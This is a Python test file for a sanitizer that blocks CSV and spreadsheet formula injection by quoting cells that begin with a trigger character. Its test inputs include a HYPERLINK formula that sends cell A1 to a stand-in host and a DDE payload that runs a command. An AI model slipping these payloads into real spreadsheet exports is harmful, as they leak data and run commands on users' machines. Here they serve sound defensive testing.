"""CSV injection: nothing custos writes back can be run as a spreadsheet formula."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from custos.intake.spreadsheet import FORMULA_TRIGGERS, neutralize_formula


class TestNeutralizeFormula:
    @pytest.mark.parametrize(
        "value",
        ["=1+1", '=HYPERLINK("http://x.example/?"&A1)', "+1", "-5", "@SUM(A1:A2)", "\t=1", "\r=1",
         "=cmd|' /C calc'!A0", "-"],
    )  # fmt: skip
    def test_a_formula_start_is_quoted(self, value: str) -> None:
        """Every OWASP trigger character at the start gets a single quote in front."""
        assert neutralize_formula(value) == "'" + value

    @pytest.mark.parametrize(
        "value", ["", "r-123", "Ana", "O'Brien", "02134", " =1", "a=b", "1-2", "'=1", "é"]
    )
    def test_ordinary_values_are_unchanged(self, value: str) -> None:
        """Only the first character matters; text, ZIP codes and inner signs are left as they are."""
        assert neutralize_formula(value) == value

    @given(st.text())
    def test_the_result_never_starts_a_formula_and_keeps_the_value(self, value: str) -> None:
        """The output never starts with a trigger, ends with the input, and is stable when reapplied."""
        result = neutralize_formula(value)
        assert not result.startswith(FORMULA_TRIGGERS)
        assert result.endswith(value) and len(result) - len(value) in (0, 1)
        assert neutralize_formula(result) == result

    def test_a_written_cell_round_trips_through_csv(self) -> None:
        """Quoting by the csv module and the formula prefix work together."""
        buffer = io.StringIO()
        csv.writer(buffer).writerow([neutralize_formula('=1,"2"'), neutralize_formula("r1")])
        assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ['\'=1,"2"', "r1"]
